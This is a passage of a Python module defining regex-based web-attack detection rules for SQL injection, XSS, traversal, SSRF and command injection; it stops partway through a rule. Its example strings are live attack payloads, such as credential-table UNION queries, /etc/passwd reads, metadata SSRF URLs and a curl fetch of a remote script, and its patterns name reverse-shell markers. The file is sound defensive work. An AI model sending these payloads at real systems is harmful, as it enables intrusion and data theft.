"""The attack detection rules, as data: one `Rule` per thing an attacker does that a log shows.

A rule has an id of ours (`sqli-union-select`), the family it belongs to, what it
catches and why, its RE2 patterns, where it applies, and example values it must and
must not match; `tests/test_attacks.py` runs every example through `AttackDetector`.
Patterns are RE2 (no lookaround, no backreferences) in the syntax Python's `re` shares
with it (the prefilter reads them with Python's parser), matched against normalised,
lower-cased text (see `transforms.attacks.normalise`): write them in lower case and without
percent escapes. Normalised text has one space wherever the raw text had a run of blanks:
write ` ` for such a gap and ` ?` for an optional one (`\\s` also takes line breaks). Each
pattern must name some literal text every match contains (`union`, `<`, `/etc/`): the
prefilter looks for those literals first, and a pattern without one is refused.

Examples are raw log field values, as a log holds them: a request target for rules
on the target or its query values, else a referrer or a user agent.

Families (the order in which a row lists them):

- `sqli`: SQL injection, and NoSQL operator injection.
- `xss`: cross-site scripting: script tags, event handlers, script URIs, HTML that runs code.
- `traversal`: path traversal and local file inclusion: `../`, system files, null bytes.
- `rfi`: remote file inclusion and server-side request forgery: a URL or address for the
  server to fetch (a foreign scheme, cloud metadata, an obfuscated or internal address).
- `rce`: OS command injection, shellshock, and code injection into other server-side
  runtimes (Node.js, Perl, Ruby, template engines).
- `php`: PHP code injection, PHP stream wrappers, serialised PHP objects.
- `java`: Log4Shell `${jndi:` and its obfuscations, expression-language and deserialisation probes.
- `scanner`: user agents of known vulnerability scanners and attack tools.
- `probe`: requests for sensitive files and admin paths: dot-files, CMS logins, database
  admin tools, server internals, backup and log files.

The rules are written for this project (their shape follows how mature rule sets such as
the OWASP Core Rule Set classify attacks; no text is taken from them). Each catches a
technique, not a test case; where a technique's benign twin is common (`time warner`,
`if you like`), the pattern demands the syntax that only the attack has.
"""

from __future__ import annotations

import re
from dataclasses import dataclass

FAMILIES = ("sqli", "xss", "traversal", "rfi", "rce", "php", "java", "scanner", "probe")

# Where a rule applies (see transforms.attacks for how each text is cut out).
TARGET = "target"
QUERY_VALUE = "query_value"
REFERRER = "referrer"
USER_AGENT = "user_agent"
WHERE = (TARGET, QUERY_VALUE, REFERRER, USER_AGENT)

# Most rules look at the whole target (path, query names and values) and both headers. Rules
# whose patterns anchor at `^`, where an injected command or statement begins, or whose
# only literals are short words (`sh -c`) look at query values and headers alone.
ANYWHERE = (TARGET, REFERRER, USER_AGENT)
VALUES = (QUERY_VALUE, REFERRER, USER_AGENT)


@dataclass(frozen=True)
class Rule:
    """One rule: see the module docstring for its fields. Checked when made, so that a
    mistyped family, place or upper-case pattern fails at import, not silently."""

    id: str
    family: str
    description: str
    patterns: tuple[str, ...]
    where: tuple[str, ...]
    must_match: tuple[str, ...]
    must_not_match: tuple[str, ...] = ()

    def __post_init__(self) -> None:
        if self.family not in FAMILIES:
            raise ValueError(f"rule {self.id}: unknown family {self.family!r}")
        if not self.where or not set(self.where) <= set(WHERE):
            raise ValueError(f"rule {self.id}: where must name some of {', '.join(WHERE)}")
        if not self.id.startswith(f"{self.family}-"):
            raise ValueError(f"rule {self.id}: the id starts with its family")
        if not self.patterns or not self.must_match:
            raise ValueError(f"rule {self.id}: needs patterns and examples it must match")
        for pattern in self.patterns:  # text is lower-cased before matching: `A` would never match
            if re.search(r"[A-Z]", re.sub(r"\\.", "", pattern)):
                raise ValueError(f"rule {self.id}: write patterns in lower case: {pattern}")


# --- shared pieces --------------------------------------------------------------------------------

# Between SQL words: whitespace, an opening parenthesis, an inline or MySQL version comment.
_SQL_GAP = r"(?:\s|\(|/\*[^*]*\*/|/\*![0-9]*|\*/)+"
# Between a function name and its `(`: comments and line breaks as PHP and JavaScript allow.
_CODE_GAP = r"(?:\s|/\*.*?\*/|//[^\n]*\n|#[^\n]*\n)*"
# The same without a lone space, for names that are English words too (`system (OS)`):
# only comments and line breaks.
_TIGHT_GAP = r"(?:[\r\n]|\s*/\*.*?\*/\s*|\s*//[^\n]*\n\s*|\s*#[^\n]*\n\s*)*"
# Slashes from other Unicode blocks that a server or its file system may read as `/` or `\\`.
_UNICODE_SLASHES = "\u2215\u2216\uff0f\uff3c\ufe68"
# In a host name: ideographic and full-width full stops, circled and full-width letters and digits.
_ODD_HOST_CHARACTERS = "\u3002\uff0e\u2460-\u24ff\uff10-\uff5a"
# Schemes a server-side fetch may follow.
_URL_SCHEME = (
    r"(?:http|https|ftp|ftps|gopher|dict|file|local_file|ldap|ldaps|tftp|smb|ssh|sftp|telnet|rtmp|irc|pop3|imap|jar"
    r"|netdoc)"
)
# Commands an injected shell line runs; common English words (`set`, `type`, `find`) are left
# out unless the context is unmistakable.
_UNIX_COMMANDS = (
    r"cat|tac|nl|ls|id|whoami|uname|wget|curl|nc|ncat|netcat|socat|bash|sh|zsh|ksh|dash|csh|tcsh|busybox"
    r"|python[23]?(?:\.[0-9]+)?|perl|ruby|php|node|lua|nohup|chmod|chown|rm|cp|mv|echo|printf|ping|nslookup"
    r"|ifconfig|ipconfig|env|base64|sleep|dd|tar|bsdtar|zstdcat|zcat|telnet|awk|gawk|sed|grep|touch|sudo"
    r"|crontab|systemctl|netstat|powershell|cmd|certutil|regedit|mshta|wmic|bitsadmin|rundll32|systeminfo"
    r"|tasklist|useradd|passwd|xterm|head|tail|less|more|strings|xxd|od|hexdump|tee|kill|pkill|killall"
)
_COMMAND_END = r"(?:\s|$|[;|&<>'\"`)$])"
# Commands whose names say what they are: enough, at the start of a value, with any argument.
_TELLING_COMMANDS = (
    r"wget|curl|bash|zsh|ksh|dash|csh|tcsh|busybox|whoami|uname|netcat|ncat|socat|python|python2|python3|perl"
    r"|ruby|nohup|chmod|chown|printf|nslookup|ifconfig|ipconfig|base64|bsdtar|zstdcat|zcat|telnet|gawk|sudo"
    r"|crontab|systemctl|netstat|powershell|certutil|regedit|mshta|wmic|bitsadmin|rundll32|systeminfo|tasklist"
    r"|useradd|passwd|xterm|hexdump|pkill|killall|xxd"
)
# Short or everyday command names: at the start of a value only with an argument that names
# a system path, a home or variable, or climbs out (`cat /etc/passwd`, `ls -la ~`).
_SHORT_COMMANDS = (
    r"cat|tac|nl|ls|ll|id|nc|sh|cp|mv|rm|dd|od|awk|sed|env|php|tee|ps|head|tail|more|less|echo|ping|sleep|touch"
)
_SYSTEM_PATH = r"/(?:etc|bin|sbin|usr|var|tmp|proc|dev|home|root|sys|opt|boot|lib)\b|~|\$|\.\./|[a-z]:\\"

# Rule(id, family, description, patterns, where, must_match, must_not_match)
RULES: tuple[Rule, ...] = (
    # --- sqli -------------------------------------------------------------------------------------
    Rule(
        "sqli-union-select",
        "sqli",
        "UNION [ALL] SELECT appends the attacker's query to the application's, through spaces, comments or brackets.",
        (rf"\bunion{_SQL_GAP}(?:(?:all|distinct){_SQL_GAP})?select\b",),
        ANYWHERE,
        (
            "/api/v1/projects/1%20UNION%20SELECT%20username,password%20FROM%20users--/entries",
            "/post/foo/24'union+all+select+1,2,3+from+aa",
            "/item?id=-1/**/UnIoN/**/SeLeCt/**/1,2",
            "/item?id=1+union/*!50000select*/+1",
        ),
        ("/blog/trade-union-selection", "/search?q=union+station+selected+works"),
    ),
    Rule(
        "sqli-quote-boolean",
        "sqli",
        "A quote closes the string, then OR/AND/XOR and a comparison make the condition the attacker's.",
        (
            r"['\"`]\s*(?:x?or|and|div|like|rlike|regexp|glob)\b\s*[\w'\"(-][^&]*?(?:[=<>!;#]|--)",
            r"'[^'=&]*'\s*=\s*'",
        ),
        ANYWHERE,
        (
            "/api/v1/timesheets?id=1%27%20OR%201=1--",
            "/post/EmptyValue'%20and%20526=527",
            "/item?name=%27%20or%20abc%21",
            "/search?term=%22xor%20456%3E",
            "/login?user=admin%27%20or%20%27a%27=%27a",
        ),
        ("/search?q=rock+%27n%27+roll+or+jazz", "/search?title=%22and+then%22&page=2", "/o%27reilly/books"),
    ),
    Rule(
        "sqli-boolean-value",
        "sqli",
        "A value that is a tautology or an OR/XOR tail (`1=1`, `or 88`, `xor 99>`): a numeric parameter hijacked.",
        (
            r"^ ?(?:or|xor|and) (?:[0-9]+|'[^']*'|\"[^\"]*\") ?(?:[=<>!]|$)",
            r"(?:^|[^0-9a-z_.=])(?:0=0|1=1|2=2|3=3|4=4|5=5|6=6|7=7|8=8|9=9)(?:$|[^0-9])",
        ),
        (QUERY_VALUE,),
        ("/get?a=1=1", "/get?a=b,1=1", "/check?id=or%2088", "/api?id=xor%2099%3E", "/get?var=or%20%27a%27%20%3C"),
        ("/get?a=11=1", "/get?a=1=11", "/search?q=and+more", "/search?q=or+else"),
    ),
    Rule(
        "sqli-comment-after-quote",
        "sqli",
        "A quote followed by a statement end or comment cuts off the rest of the application's query.",
        (r"['`]\s*(?:;|--|#|/\*)",),
        ANYWHERE,
        ("/login?next=%27%3B%20DROP%20TABLE%20users--", "/get?var=%27%3b%23", "/item?id=5%27--%20-"),
        ("/search?q=it%27s+here", "/wiki/Rock_%27n%27_Roll"),
    ),
    Rule(
        "sqli-time-delay",
        "sqli",
        "SLEEP, BENCHMARK, PG_SLEEP or WAITFOR DELAY: blind injection timed by the response.",
        (
            r"\b(?:sleep|pg_sleep|benchmark)\s*\(\s*(?:[0-9'\"(@-]|[a-z_]+\s*\()",
            r"\bwaitfor\s+(?:delay|time)\s+'",
            r"\bdbms_(?:lock\.sleep|pipe\.receive_message)\b",
        ),
        ANYWHERE,
        (
            "/api/v1/projects?page=1%27%20AND%20SLEEP(5)--",
            "/get/if(now()=sysdate(),sleep(12),0)",
            "/get?sql_table=SeleCT%20sLeEp%20%28mOD%2810%2C5%29%29",
            "/get?var=SELECT%20BENCHMARK%281000000%2C1%2B1%29%3B",
            "/item?id=1;WAITFOR+DELAY+%270:0:5%27--",
        ),
        ("/get?var=I%20sleep%20well%21", "/blog/how-to-sleep-(well)"),
    ),
    Rule(
        "sqli-select-statement",
        "sqli",
        "A SELECT statement of SQL's own shape: columns FROM a table, or SELECT of a function or variable.",
        (
            r"\bselect(?:\s|/\*[^*]*\*/)+(?:\*|[\w.`\"]+\s*\(|[\w.`\"]+\s*,|@@)[^&]*?\bfrom\b",
            r"\bselect\b[^&]+?\bfrom\b[^&]+?\bwhere\b",
            r"\bselect\s*(?:if|case|char|concat|version|user|database|sleep|benchmark)\s*\(|\bselect\s*@@",
        ),
        ANYWHERE,
        (
            "/get?var=in%20%28%20select%20%2a%20from",
            "/get?var=SELECT%20%2A%20FROM%20%60movies%60%20GROUP%20BY%20%60category_id%60",
            "/get?test=select+if(x",
            "/item?id=1+and+(select+count(*)+from+users)>0",
        ),
        ("/search?q=please+select+one+from+the+list", "/get?var=except%20selecting"),
    ),
    Rule(
        "sqli-stacked-query",
        "sqli",
        "A second statement (INSERT, DROP, CREATE FUNCTION, EXECUTE ...) stacked after the application's.",
        (
            r";\s*(?:select|insert|update|delete|drop|create|alter|truncate|exec(?:ute)?|declare|shutdown|grant)\b\s*[\w@*(`\"/]",
            r"\binsert\s+(?:/\*.*?\*/\s*)?into\b[^&]*?\bvalues\b",
            r"\b(?:create\s+(?:or\s+replace\s+)?(?:function|procedure|trigger)|drop\s+(?:table|database|schema))\b",
            r"\bexec(?:ute)?\s+(?:immediate\b|master\.|xp_|sp_)|\bdeclare\s+@\w+\s",
        ),
        ANYWHERE,
        (
            "/get?var=%3bINSERT%20INTO%20table%20%28col%29%20VALUES",
            "/get?var=CREATE+FUNCTION+hello+%28s+CHAR%2820%29%29+RETURNS+CHAR%2850%29",
            "/get?var=EXECUTE%20IMMEDIATE%20%22",
            "/get?test=mod(1,2)%3BINSERT%20%2F%2Atest%2A%2FINTO%20category%28id%29%20VALUES%20%283%29",
        ),
        ("/get?var=%3Binsertion_424242", "/search?q=how+to+create+a+function"),
    ),
    Rule(
        "sqli-database-function",
        "sqli",
        "Functions attackers call to read files, run commands or leak data through errors and JSON.",
        (
            r"\b(?:load_file|lo_import|lo_export|lo_get|pg_read_file|pg_ls_dir|xp_cmdshell|xp_dirtree|sp_executesql"
            r"|sp_oacreate|utl_http\.request|utl_inaddr\.get_host_(?:name|address)|updatexml|extractvalue|json_extract"
            rf"|json_search|json_array|jsonb_pretty|starts_with|group_concat){_CODE_GAP}\(",
            r"\boverlay\s*\([^&]*?\bplacing\b",
            r"\binto\s+(?:out|dump)file\b",
        ),
        ANYWHERE,
        (
            "/get/index.php?id=lo_import(%27/etc%27%20||%20%27/pass%27%20||%20%27wd%27)",
            "/get/index.php?id=starts_with(password,'a')::int",
            "/get?q=SELECT%20id%20FROM%20users%20WHERE%20id=JsoN_EXTraCT/**/(/**/'%20%20%7B%22a%22:1%7D')",
            "/item?id=1+and+updatexml(1,concat(0x7e,version()),1)",
        ),
        ("/blog/json-extract-tips", "/get?name=overlay"),
    ),
    Rule(
        "sqli-schema-probe",
        "sqli",
        "Names of database catalogue tables: the attacker maps tables and columns.",
        (
            r"\b(?:information_schema|pg_catalog|pg_shadow|pg_user|sqlite_master|sysobjects|syscolumns|sysusers"
            r"|msysaccessobjects|mysql\.user|all_tables|user_tab_columns|sys\.(?:objects|tables|columns))\b",
        ),
        ANYWHERE,
        ("/get?sql_table=pg_catalog", "/item?id=1+union+select+table_name+from+information_schema.tables"),
        ("/docs/schema-information",),
    ),
    Rule(
        "sqli-postgres-cast",
        "sqli",
        "A PostgreSQL `::type` cast after a value or call, used to force errors and JSON tricks.",
        (r"[)'\"`\]]\s*::\s*(?:int\w*|text|bool\w*|jsonb?|varchar|numeric|bigint|float\w*|regclass|char|bytea|oid)\b",),
        (TARGET, REFERRER),
        ("/get/index.php?id=function(foo)::text", "/get?q='%5B%22a%22%5D'%3A%3Ajsonb", "/get?id=lo_get(16400)::int"),
        ("/api/hosts?ip=2001:db8::1", "/docs/c++::std"),
    ),
    Rule(
        "sqli-json-operator",
        "sqli",
        "PostgreSQL JSON operators (`<@`, `?|`, `#>`, `@?` ...) between quoted documents.",
        (r"'\s*(?:<@|@>|\?[|&]?|#>>?|#-|->>?|@\?|@@|<=?|>=?)\s*(?:'|array\s*\[)",),
        ANYWHERE,
        (
            "/get/OR%20%27%7B%22b%22%3A2%7D%27%20%3C%40%20%27%7B%22a%22%3A1%7D%27",
            "/get/OR%20%27%5B1%2C2%5D%27%20%3F%20%271%27",
            "/get/OR%20%27%7B%22name%22%3A%22asd%22%7D%27%20%3F%26%20array%5B%27a%27%5D",
        ),
        ("/get?q=how%20was%20your%20day%20today?", "/get?gift_message=%20I%20Love%20you%20%3C3"),
    ),
    Rule(
        "sqli-mysql-comment",
        "sqli",
        "A MySQL version comment `/*!50000 ... */`: SQL that only MySQL runs, to slip past filters.",
        (r"/\*![0-9]*",),
        ANYWHERE,
        ("/get?id=9999+or+{if+length((/*!5000select+username/*!50000from*/user+where+id=1))>0}",),
        ("/get?q=/*+a+comment+*/",),
    ),
    Rule(
        "sqli-nosql-operator",
        "sqli",
        "MongoDB query operators in a parameter (`user[$ne]=`, `[$where]`): NoSQL injection.",
        (
            r"\[\s*\$(?:ne|eq|gt|gte|lt|lte|in|nin|regex|where|exists|not|or|and|nor|expr|elemmatch|size|type|all)\s*\]",
            r"\{\s*\"?\$(?:ne|gt|gte|lt|where|regex|expr|function)\"?\s*:",
        ),
        ANYWHERE,
        ("/get?mongoQ=%5b%24lte%5dasdfsd", "/login?user=admin&password[$ne]=x", '/find?q={"$where":"sleep(100)"}'),
        ("/cart?price=$10",),
    ),
    # --- xss --------------------------------------------------------------------------------------
    Rule(
        "xss-script-tag",
        "xss",
        "A <script> tag, also namespaced (`<x:script>`) or closing.",
        (r"< ?/? ?(?:[a-z]+:)?script\b",),
        ANYWHERE,
        (
            "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
            '/search?q=\\"><script>alert(1)</script>',
            "/get?x=%253Cscript%253E",
            "/char_test?body=%3Cx:script%20xmlns:x=%22http://www.w3.org/1999/xhtml%22%3E",
        ),
        ("/get?%9cscript+%bcalert(1);%bc/script%9e=value", "/docs/javascript-guide"),
    ),
    Rule(
        "xss-event-handler",
        "xss",
        "An HTML event handler attribute (`onerror=`, `onload=` ...) after a tag, quote, slash or space.",
        (
            r"(?:^|[\s\"'/;<>])on(?:load|unload|error|abort|click|dblclick|auxclick|contextmenu|mouseover|mouseout"
            r"|mousedown|mouseup|mousemove|mouseenter|mouseleave|mousewheel|pointerover|pointerout|pointerdown"
            r"|pointerup|pointermove|pointerenter|pointerleave|pointerrawupdate|keydown|keyup|keypress|focus|focusin"
            r"|focusout|blur|change|input|invalid|submit|reset|select|search|toggle|show|begin|end|repeat|resize"
            r"|scroll|wheel|copy|cut|paste|drag|dragstart|dragend|dragenter|dragleave|dragover|drop|touchstart"
            r"|touchend|touchmove|touchcancel|animationstart|animationend|animationiteration|transitionstart"
            r"|transitionend|transitionrun|transitioncancel|play|playing|pause|ended|canplay|canplaythrough|loadstart"
            r"|loadeddata|progress|hashchange|popstate|message|storage|beforeunload|pageshow|pagehide|afterprint"
            r"|beforeprint|formdata|readystatechange|start|finish|bounce|filterchange|beforescriptexecute"
            r"|afterscriptexecute)\s*=",
        ),
        ANYWHERE,
        (
            "/app/projects?name=%3Cimg%20src=x%20onerror=alert(document.cookie)%3E",
            "/post?%20%20onload%3d%20=vardata",
            "/get/index.php/%3Csvg/onload=alert()",
            "/char_test?body=%3Cx%20onend%3D",
        ),
        ("/get?sign=VGhhbmtzLCBmb3IgYWxs%2Fonafe%3D", "/settings?onload=true", "/get?x=%20onthisisaverylongword%3d"),
    ),
    Rule(
        "xss-script-uri",
        "xss",
        "A javascript:/vbscript: URI, also inside CSS url(), or a data: URI of HTML or script.",
        (
            r"\b(?:java|vb|live) ?script ?:",
            r"\burl ?\( ?['\"]? ?(?:java|vb) ?script\b",
            r"\bdata ?: ?(?:text/html|image/svg\+xml|application/(?:x-)?(?:java|ecma)script|[^,&]*, ?<)",
        ),
        ANYWHERE,
        (
            "/login?next=javascript:alert(1)",
            "/get/bar?test=STYLE%3DX%3AURL%28JAVASCRIPT",
            "/get?test=%20data%3A%20%2C%20%3Cx%3E",
            "/go?to=java%09script:alert(1)",
        ),
        (
            "/get/javascript-manual/document.cookie",
            "/get/bar?test=style%3Dbackground%3Aurl%28http%3A%2F%2Fexample.com%29",
        ),
    ),
    Rule(
        "xss-html-tag",
        "xss",
        "An HTML tag that can run script or load content (<img>, <svg>, <iframe>, <object>, <body> ...).",
        (
            r"<\s*/?\s*(?:iframe|frame|frameset|img|image|svg|object|embed|applet|body|video|audio|source|details"
            r"|math|form|input|button|base|link|meta|style|marquee|isindex|template|dialog|xss|animate|bgsound)\b",
            r"<\s*\??\s*import\s*implementation",
        ),
        ANYWHERE,
        (
            "/api/v1/projects?sort=%22%3E%3Csvg/onload=alert(1)%3E",
            "/get?test=<importimplementation=",
            "/p?x=%26lt%3Biframe%20src%3D//example.com%26gt%3B",
        ),
        ("/search?q=a+%3C+b+and+images", "/blog/the-<b>-tag"),
    ),
    Rule(
        "xss-attribute-injection",
        "xss",
        "Attributes that run or load script by themselves: formaction, srcdoc, xlink:href.",
        (r"(?:^|[\s\"'/<])(?:formaction|srcdoc|xlink:href)\s*=",),
        ANYWHERE,
        ("/char_test?body=%27formaction%3D", "/p?x=%22%20srcdoc=%22%26lt;script%26gt;"),
        ("/settings?formaction_enabled=1",),
    ),
    Rule(
        "xss-xml-entity",
        "xss",
        "An XML entity declaration (`<!ENTITY % x SYSTEM ...>`): XXE through a value that ends up in XML or HTML.",
        (r"!\s*entity\s+%?\s*[\w.-]+\s+(?:system|public)\b",),
        ANYWHERE,
        ("/upload?xml=%3C!ENTITY%20%25%20ext%20SYSTEM%20%22http://example.com/x%22%3E",),
        ("/news?title=entity+system",),
    ),
    Rule(
        "xss-javascript-call",
        "xss",
        "Calls that XSS payloads use to prove or deliver code: alert(), prompt(), setInterval(), new Function() ...",
        (
            r"\b(?:alert|prompt|confirm|setinterval|settimeout|execscript|fromcharcode|atob)\s*(?:\(|`)",
            r"\bnew\s+function\s*\(",
        ),
        ANYWHERE,
        (
            "/get?arg=setInterval%28code%2C%201%29",
            "/get?arg=new%20Function%28%29",
            "/get?arg=alert%28%29",
            "/get?x=top[%27al%27%2B%27ert%27](1)%3Balert`1`",
        ),
        ("/blog/alert-fatigue", "/settings?alerts=on"),
    ),
    Rule(
        "xss-template-literal",
        "xss",
        "A tagged template call (`.call`${alert}``) or a `${...}` reaching for the page: script without parentheses.",
        (
            r"\.\s*(?:/\*.*?\*/\s*)*(?:call|apply|bind)\s*`",
            r"\$\{\s*(?:alert|prompt|confirm|eval|navigation|location|document|window|top|self)\b",
        ),
        ANYWHERE,
        (
            "/get?xss=%5B%20%20%5D%20.%20sort%20.%20call%20%60%20%24%7B%20alert%20%7D%201337%20%60",
            "/get?xss=Reflect.apply.call%60%24%7Bnavigation.navigate%7D%60",
        ),
        ("/docs/function.call",),
    ),
    # --- traversal --------------------------------------------------------------------------------
    Rule(
        "traversal-dot-dot",
        "traversal",
        "`../` or `..\\` (also `.../`, `..;/`, Unicode slashes) climbs out of the directory the application meant.",
        (
            r"\.\.+[/\\" + _UNICODE_SLASHES + "\ufffd]",
            r"\.\.;/",
            r"(?:^|[/\\=])\.\.+$",
        ),
        ANYWHERE,
        (
            "/../../etc/passwd",
            "/static/..%2f..%2f..%2fetc%2fpasswd",
            "/get/file:%2f%2f/usr/src/%252e%252e/%252e%252e/etc/passwd",
            "/get?arg=..\\pineapple",
            "/get?foo=.../.../WINDOWS/win.ini",
            "/static/....//....//....//etc/shadow",
        ),
        ("/get/..foo", "/search?q=wait...+what", "/files/v1..2/notes"),
    ),
    Rule(
        "traversal-system-file",
        "traversal",
        "Files and folders of the operating system that no web request needs: /etc/passwd, /proc/self, win.ini ...",
        (
            r"/etc/(?:passwd|shadow|group|gshadow|hosts|issue|subuid|subgid|sudoers|crontab|fstab|mtab|profile|bashrc"
            r"|environment|os-release|lsb-release|resolv\.conf|hostname|machine-id|motd)\b",
            r"/etc/(?:security|ssh|httpd|apache2|nginx|mysql|pam\.d)/",
            r"/proc/(?:self|thread-self|[0-9]+)/(?:environ|cmdline|fd|maps|mem|status|root|cwd|exe|mounts|stat)\b",
            r"/proc/(?:version|cpuinfo|meminfo|mounts|net/)",
            r"/sys/(?:class|kernel|devices|firmware|power|module|block|bus)\b",
            r"\b(?:win|boot|system)\.ini\b|\bwindows[/\\](?:system32|repair|system)\b|\bsystem32[/\\]",
            r"\.ssh/(?:id_[a-z0-9]+|authorized_keys|known_hosts)\b|\.(?:bash|zsh|mysql|psql|python)_history\b",
            r"/var/log/[\w.-]|\bweb-inf/web\.xml\b",
        ),
        ANYWHERE,
        (
            "/api/v1/reports/hours?file=../../../../etc/passwd",
            "/get?code=cat+%2Fetc%2Fsubuid",
            "/get?foo=arg&path_comp=.ssh/id_rsa",
            "/get/sys/class",
            "/..%5c..%5c..%5cwindows%5cwin.ini",
            "/view?page=/proc/self/environ",
        ),
        ("/get?code=%3E/tmp", "/docs/etc/hostnames-explained", "/get?code=%3E/test.environment"),
    ),
    Rule(
        "traversal-null-byte",
        "traversal",
        "A NUL byte (`%00`) cuts a file name short in code that appends an extension: `../x.php%00.png`.",
        (r"\x00",),
        ANYWHERE,
        ("/download?file=report.php%00.png", "/get?foo=0x2e.%000x2f0x2e.%00/WINDOWS/win.ini"),
        ("/download?file=report.png",),
    ),
    # --- rfi --------------------------------------------------------------------------------------
    Rule(
        "rfi-url-with-trailing-question-mark",
        "rfi",
        "A URL value ending in `?`: the rest of the include path becomes the remote server's query.",
        (r"^\s*(?:https?|ftps?)(?::[^?]*)?\?+\s*$",),
        (QUERY_VALUE,),
        ("/get?x=ftp?", "/index.php?page=https://example.com/shell.txt?"),
        ("/get?x=https://foo.bar?foo=bar", "/search?q=what+is+ftp?"),
    ),
    Rule(
        "rfi-foreign-scheme",
        "rfi",
        "A value that is a URL of a scheme a web application has no business fetching: file:, gopher:, jar:, dict: ...",
        (
            r"^\s*(?:file|gopher|dict|tftp|netdoc|jar|ldaps?|smb|sftp|ssh2?(?:\.[a-z]+)?|telnet|rtmp|irc|pop3|imap"
            r"|ftps?|local_file)\s*:",
        ),
        (QUERY_VALUE,),
        ("/get?x=file://foo.bar", "/get?x=gopher://example.com/_SSRFTest!", "/get?x=jar:http://evil.co/b.zip!a"),
        ("/get?x=https://example.com/", "/get?x=filesystem"),
    ),
    Rule(
        "rfi-url-in-path",
        "rfi",
        "A URL inside the request path (`/get/https://...`, `/file:/etc`): a proxy or include fed through the path.",
        (r"^[^?]*/(?:https?|ftps?|file):/",),
        (TARGET,),
        ("/get/https://example.com/", "/get/file:%2f%2f/usr/src/blog/app"),
        ("/scripts//%22file://$file/%22", "/blog/https-everywhere"),
    ),
    Rule(
        "rfi-cloud-metadata",
        "rfi",
        "A cloud provider's instance metadata service: the credentials an SSRF is after.",
        (
            r"169\.254\.169\.254|\b100\.100\.100\.200\b|\bfd00:ec2::254\b|\bmetadata\.(?:google\.internal|packet\.net)\b",
            r"/latest/(?:meta-data|user-data|api/token)|/computemetadata/v1|/metadata/(?:instance|identity|v1)\b",
        ),
        ANYWHERE,
        (
            "/get/test?ssrf=http%3A%2F%2F169.254.169.254%2Fmetadata%2Fv1.json",
            "/get/test?ssrf=https%3A%2F%2Fmetadata.packet.net%2Fuserdata",
        ),
        ("/get?version=169.254.1",),
    ),
    Rule(
        "rfi-obfuscated-address",
        "rfi",
        "A URL whose host is an address written to dodge filters: decimal, hex, octal, short, IPv6 or odd dots.",
        (
            rf"^\s*{_URL_SCHEME}:(?://)?\[?(?:0x[0-9a-f]{{2,}}|[0-9]{{8,}}|0[0-7]+\.[0-7]|[0-9]{{1,3}}\.[0-9]{{4,}}"
            r"|[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{4,})",
            rf"^\s*{_URL_SCHEME}:(?://)?\[[0-9a-f:.]*:[0-9a-f:.]*(?:%[a-z0-9]+)?\]",
            rf"^\s*{_URL_SCHEME}://[^/?#]*[" + _ODD_HOST_CHARACTERS + "]",
        ),
        (QUERY_VALUE,),
        (
            "/get?ssrf=http://2852039166/",
            "/get?ssrf=http://0xA9.0xFE.0xA9.0xFE/",
            "/get?ssrf=ssh://0177.00.00.01",
            "/get?ssrf=http://[0:0:0:0:0:ffff:169.254.169.254]",
            "/get?ssrf=http://169。254。169。254/",
            "/get?ssrf=http%3A0xA9FEA9FE",
        ),
        ("/get?next=https://www.example.com:8443/a", "/get?ssrf=2852039166"),
    ),
    Rule(
        "rfi-internal-host",
        "rfi",
        "Host names that point back at the server or its cluster (localhost aliases, container and Kubernetes names).",
        (
            r"\b(?:localhost\.localdomain|localhost[46](?:\.localdomain[46])?|ip6-(?:localhost|loopback)"
            r"|ipv6-localhost|host\.(?:docker|containers)\.internal|gateway\.docker\.internal"
            r"|kubernetes\.default(?:\.svc)?|[a-z0-9-]+\.svc\.cluster\.local|localtest\.me)\b",
            r"\blocal_file:",
        ),
        ANYWHERE,
        ("/get/test?url=localhost.localdomain/", "/get/test?url=kubernetes.default.svc.cluster.local/"),
        ("/get/test?server=localhost",),
    ),
    # --- rce --------------------------------------------------------------------------------------
    Rule(
        "rce-command-chain",
        "rce",
        "A shell command after a separator (`;`, `|`, `&&`, a newline, a backtick, `$(`): it runs after the real one.",
        (rf"(?:[;|\n`]|&&|\$\() ?['\"]?(?:\$\w+ ?)?(?:{_UNIX_COMMANDS})['\"]?{_COMMAND_END}",),
        (TARGET, REFERRER),
        (
            "/get?host=www.google.com;cat+/etc/%24%7Ba%7Dpasswd",
            "/get?test=%7C%24u%20wget%20test",
            "/get?cmd=;%20mshta%20http://example.com",
            "/ping?host=example.com%7Cid",
        ),
        ("/get?args=;environment", "/get?q=a%3B%243%20b%3B%244%20c", "/get?args=;performance"),
    ),
    Rule(
        "rce-command-line",
        "rce",
        "A value or header that is a command line: a telling command with arguments, a short one on a system"
        " path, one after time/nohup/sudo or after a separator, or a lone reconnaissance command.",
        (
            rf"^ ?['\"]?(?:{_TELLING_COMMANDS})['\"]? (?:-|[/~$.|;&<>'\"]|https?:)",
            rf"^ ?['\"]?(?:{_SHORT_COMMANDS})['\"]? (?:-[a-z]+ )*(?:{_SYSTEM_PATH})",
            rf"^ ?['\"]?(?:time|nohup|nice|timeout|sudo|exec|env|xargs) ['\"]?(?:{_UNIX_COMMANDS})['\"]?{_COMMAND_END}",
            rf"^ ?(?:[;|`]|&&|\$\() ?`?['\"]?(?:\$\w+ ?)?(?:{_UNIX_COMMANDS})['\"]?{_COMMAND_END}",
            r"\bdd if=/|^ ?['\"]?(?:whoami|ifconfig|ipconfig|netstat|systeminfo|tasklist|visudo)['\"]? ?$",
            r"^ ?(?:sudo )?(?:pip|pip2|pip3|npm|gem|apt|apt-get|yum|dnf|apk) (?:install|add) ",
            r"^ ?alias (?:[+-]\S* )*[\w.-]+=",
        ),
        VALUES,
        (
            "/get?932160-1=cat%20/etc/passwd",
            "/get?x=ls%20-l%20/etc/passwd",
            "/get?foo=time+curl+coreruleset.org",
            "/get?param=pip%20install%20something",
            "/get?x=;env",
            "/get?x=curl%20-s%20http://example.com/x.sh",
            "/get?rce=alias%20eennvv%3Denv%26eennvv%20whoami",
        ),
        (
            "/get?foo=time+warner",
            "/search?q=cat+food",
            "/get?test=time%20express",
            "/get?x=ls%20foo",
            "/get?args=;environment",
            "/search?q=curl+up+with+a+book",
        ),
    ),
    Rule(
        "rce-shell-invocation",
        "rce",
        "A shell started with a command string, a pipe into a shell, or a reverse shell through /dev/tcp.",
        (
            r"\b(?:bash|zsh|ksh|csh|tcsh|dash|ash|sh) -[a-z]*c\b|\bsh\$\w+ -[a-z]*c\b|\$\{?shell\b",
            r"/bin/(?:bash|zsh|ksh|csh|tcsh|dash|sh)\b|/dev/(?:tcp|udp)/|\$\w+/(?:tcp|udp)/",
            r"\( ?(?:bash|sh) ?\)|\| ?(?:bash|zsh|dash|sh)\b",
